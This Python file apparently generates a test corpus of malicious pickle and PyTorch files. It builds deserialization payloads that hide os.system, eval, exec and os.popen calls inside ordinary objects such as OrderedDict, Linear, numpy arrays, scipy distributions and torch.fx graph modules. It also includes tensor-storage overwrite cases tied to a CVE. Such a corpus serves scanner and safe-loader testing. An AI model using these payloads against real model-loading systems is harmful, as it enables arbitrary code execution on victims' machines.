"""BUILD, items and appends that turn harmless objects into calls, or corrupt them."""

from assemble import *

ORDERED = call(name("collections", "OrderedDict"))
LINEAR = new(name("torch.nn.modules.linear", "Linear"))
TENSOR = call(name("torch._utils", "_rebuild_tensor_v2"), Raw(literal(("storage", name("torch", "FloatStorage"), "0", "cpu", 4)) + b"Q"), 0, (4,), (1,), False, ORDERED)
ARRAY = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b")


def files():
    for index, attribute in enumerate("__setstate__ __class__ __reduce__ __reduce_ex__ __getattr__ __getattribute__ __setattr__ __call__ __init__ __new__ __del__ __enter__ __exit__ __iter__ __next__ __getitem__ __setitem__ __len__ __eq__ __hash__ __bool__ __str__ __repr__ __format__ __contains__ __missing__ __code__ __globals__ __defaults__ __wrapped__ __bases__ __dict__ __doc__ __module__ append extend __array__ __array_finalize__ __torch_function__ __fspath__ __index__ __await__".split()):
        for where, target in {"namespace": call(name("argparse", "Namespace")), "linear": LINEAR, "ordered": ORDERED}.items():
            yield f"attribute-{attribute}-{where}.pkl", pickle(build(target, {attribute: SYSTEM}))
            if where == "namespace":
                yield f"slots-{attribute}.pkl", pickle(build(target, (None, {attribute: SYSTEM})))
                yield f"twice-{attribute}.pkl", pickle(build(build(target, {attribute: name("builtins", "eval")}), MARKER))
    for module, attribute in [("collections", "OrderedDict"), ("torch.nn.modules.module", "Module"), ("numpy", "ndarray"), ("torch", "nn"), ("builtins", "object"), ("torch", "Tensor"), ("argparse", "Namespace"), ("torch.serialization", "_get_layout"), ("sklearn.base", "BaseEstimator"), ("pathlib", "Path"), ("logging", "Logger"), ("torch._utils", "_rebuild_tensor_v2"), ("functools", "partial")]:
        yield f"class-{module}.{attribute}.pkl", pickle(build(name(module, attribute), {"forward": name("builtins", "print"), "find_class": 1}))
        yield f"class-slots-{module}.{attribute}.pkl", pickle(build(name(module, attribute), (None, {"__setstate__": SYSTEM})))
        yield f"items-on-{module}.{attribute}.pkl", pickle(Raw(literal(name(module, attribute)) + text("k") + literal(SYSTEM) + b"s"))
        yield f"append-to-{module}.{attribute}.pkl", pickle(Raw(literal(name(module, attribute)) + b"K\x01a"))
    # CVE-2026-24747: items on a tensor write past its storage.
    for where, target in {"tensor": TENSOR, "parameter": call(name("torch._utils", "_rebuild_parameter"), TENSOR, True, ORDERED), "storage": Raw(literal(("storage", name("torch", "FloatStorage"), "0", "cpu", 4)) + b"Q"), "array": ARRAY, "typed": call(name("torch.storage", "TypedStorage")), "layer": LINEAR, "size": call(name("torch", "Size"), (1, 2)), "generator": call(name("torch._C", "Generator"))}.items():
        for how, code in {"setitem": b"K\x00K\x01s", "setitems": b"(K\x00K\x01u", "setitems-many": b"(" + b"K\x00G?\xf0\x00\x00\x00\x00\x00\x00" * 8 + b"u", "append": b"K\x01a", "appends": b"(K\x01K\x02e", "additems": b"(K\x01\x90"}.items():
            yield f"items-{where}-{how}.pt", pickle(Raw(literal(target) + code), 2)
    yield "scipy-template.pkl", pickle(build(new(name("scipy.stats._continuous_distns", "norm_gen")), {"_parse_arg_template": f"\nimport os\n{PYTHON}\n"}))
    yield "scipy-template-late.pkl", pickle(build(new(name("scipy.stats._continuous_distns", "norm_gen")), Raw(b"}" + text("_parse_arg_template") + b"N" + b"s" + text("_parse_arg_template") + text(PYTHON) + b"s")))
    yield "statsmodels-formula.pkl", pickle(build(new(name("statsmodels.base.data", "PandasData")), {"formula": f"y ~ {PYTHON}", "restore_design_info": True}))
    yield "graph-module.pkl", pickle(call(name("torch.fx.graph_module", "reduce_graph_module"), {"_code": PYTHON}, "import os"))
    yield "graph-module-deploy.pkl", pickle(call(name("torch.fx.graph_module", "reduce_deploy_graph_module"), SYSTEM, {"_code": PYTHON}, ""))
    yield "linear-forward-source.pkl", pickle(build(LINEAR, {"_forward_hooks": call(name("collections", "OrderedDict"), [(0, SYSTEM)])}))
    yield "state-from-call.pkl", pickle(build(LINEAR, call(name("builtins", "eval"), PYTHON)))
    yield "partial-setstate.pkl", pickle(call(build(call(name("functools", "partial"), name("builtins", "len")), (SYSTEM, (MARKER,), {}, None))))
    yield "partial-setstate-kept.pkl", pickle(build(new(name("functools", "partial"), name("builtins", "len")), (SYSTEM, (MARKER,), {}, None)))
    yield "getstate-exec.pkl", pickle(build(new(name("torch.nn.modules.activation", "ReLU")), {"forward": call(name("functools", "partial"), name("builtins", "exec"), PYTHON)}))
    yield "ufunc-eval.pkl", pickle(build(new(name("numpy", "vectorize")), {"pyfunc": SYSTEM}))
    yield "dataset-transform.pkl", pickle(build(new(name("torchvision.transforms.transforms", "Lambda")), {"lambd": SYSTEM}))
    yield "config-loader.pkl", pickle(build(new(name("omegaconf.dictconfig", "DictConfig")), {"_content": {"_target_": "os.system"}, "fn": SYSTEM}))
    yield "exception-with-traceback.pkl", pickle(call(name("builtins", "Exception"), call(name("os", "popen"), MARKER)))
    yield "datetime-tzinfo.pkl", pickle(call(name("datetime", "datetime"), b"\x07\xe8\x02\x1d\x0c\x1e\x0f\x01\xe2@", call(name("os", "popen"), MARKER)))
